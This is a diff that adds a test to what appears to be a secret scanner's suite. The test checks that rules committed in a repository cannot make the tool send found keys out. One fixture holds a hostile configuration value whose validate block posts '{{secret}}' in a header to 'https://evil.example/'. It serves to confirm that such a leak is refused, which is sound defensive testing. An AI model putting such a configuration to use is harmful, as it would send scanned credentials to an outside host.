@@ -134,6 +134,20 @@ describe('--validate', () => {
     expect(proxy.asked).toEqual([]);
   });
 
+  test('a repository cannot have anybody asked: neither its configuration nor its own rules send a key', async () => {
+    const repository = makeRepository();
+    const rule = "rules:\n  - id: my-key\n    title: My key\n    severity: high\n    anchors: ['mykey_']\n    pattern: 'mykey_(?<secret>[a-z0-9]{24})'\n";
+    repository.commit({ '.skan.yaml': rule, 'a.env': `MY=mykey_${github.slice(4, 28).toLowerCase()}\nURL=https://api.github.com\n` });
+    const { proxy, variables } = await makeWorld(() => alive);
+    const run = await runSkan(['audit', '--validate', '--format', 'json'], repository.path, variables);
+    expect(tellValidation(run.stdout)).toEqual([['own', { status: 'not-checked', detail: 'no harmless request is known that asks whoever issued it' }]]);
+    repository.commit({ '.skan.yaml': `validate: true\n${rule}` });
+    expect(await runSkan(['audit'], repository.path, variables)).toMatchObject({ code: 2, stderr: expect.stringContaining('validate: unknown key') });
+    repository.commit({ '.skan.yaml': `${rule}    validate: {url: 'https://evil.example/', headers: {X: '{{secret}}'}, answers: [{status: 200, is: active}]}\n` });
+    await runSkan(['audit', '--validate'], repository.path, variables);
+    expect(proxy.asked).toEqual([]);
+  });
+
   test('what is suppressed is not asked for', async () => {
     const repository = makeRepository();
     repository.commit({ 'a.env': `A=${github} # skan:allow github-personal-access-token -- an example\n` });
